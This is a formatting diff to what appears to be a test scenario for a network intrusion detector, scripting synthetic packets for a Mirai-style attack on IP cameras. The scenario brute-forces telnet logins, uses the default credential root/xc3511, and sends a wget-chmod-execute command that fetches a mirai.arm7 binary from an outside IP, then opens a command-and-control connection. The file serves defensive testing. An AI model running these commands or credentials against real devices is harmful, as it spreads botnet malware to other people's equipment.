@@ -4,7 +4,17 @@ from __future__ import annotations
 
 from sentinel.demo.cast import CAMERA
 from tests.craft.plant import (
-    COLLEAGUE, CONTROL, MINUTE, OUTSIDE, SECOND, Actor, Plant, Scene, sweep, telnet, web,
+    COLLEAGUE,
+    CONTROL,
+    MINUTE,
+    OUTSIDE,
+    SECOND,
+    Actor,
+    Plant,
+    Scene,
+    sweep,
+    telnet,
+    web,
 )  # fmt: skip
 
 SECOND_CAMERA = Actor("camera-2", "10.20.3.51", "44:19:b6:12:9c:51")
@@ -24,8 +34,12 @@ def play(wire: Plant) -> None:
             telnet(wire, at + n * 3 * SECOND, OUTSIDE, camera, user, password, right=False)
         at += 30 * SECOND
     shell = telnet(wire, at, OUTSIDE, CAMERA, "root", "xc3511", right=True)
-    shell.client(b"enable\r\n").server(b"# ").client(b"/bin/busybox ECCHI\r\n").server(b"ECCHI: applet not found\r\n# ")
-    shell.client(b"wget http://185.220.101.47/bins/mirai.arm7; chmod 777 mirai.arm7; ./mirai.arm7\r\n").server(b"# ")
+    shell.client(b"enable\r\n").server(b"# ").client(b"/bin/busybox ECCHI\r\n").server(
+        b"ECCHI: applet not found\r\n# "
+    )
+    shell.client(
+        b"wget http://185.220.101.47/bins/mirai.arm7; chmod 777 mirai.arm7; ./mirai.arm7\r\n"
+    ).server(b"# ")
     web(wire, shell.now + SECOND, CAMERA, CONTROL, "/bins/mirai.arm7", agent="Wget", body=b"\x7fELF" + bytes(1200),
         kind="application/octet-stream")  # fmt: skip
     orders = wire.tcp(shell.now + 10 * SECOND, CAMERA, CONTROL, 23_231)
@@ -42,5 +56,9 @@ SCENE = Scene(
     play,
     attackers=(OUTSIDE, CAMERA),
     victims=(SECOND_CAMERA, THIRD_CAMERA, CONTROL),
-    tactics=("credential-access|lateral-movement|initial-access", "lateral-movement|command-and-control", "discovery|reconnaissance"),
+    tactics=(
+        "credential-access|lateral-movement|initial-access",
+        "lateral-movement|command-and-control",
+        "discovery|reconnaissance",
+    ),
 )
